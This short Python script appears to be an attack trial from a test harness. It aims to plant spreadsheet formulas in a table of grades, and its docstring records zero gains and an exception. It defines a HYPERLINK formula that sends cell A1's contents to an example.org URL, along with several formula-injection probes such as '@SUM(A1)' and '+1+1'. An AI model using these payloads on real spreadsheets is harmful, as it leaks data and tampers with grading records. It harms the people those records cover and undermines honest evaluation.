"""Put spreadsheet formulas where a table of grades could take them up.

gains: nothing
score: 0
outcome: exception
"""

from kit import drive

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"100")'


def inject(node, scan):
    print(FORMULA, "+1+1", "@SUM(A1)", "-2+3", "\t=1", sep="\n")
    raise RuntimeError(FORMULA)


drive(inject)
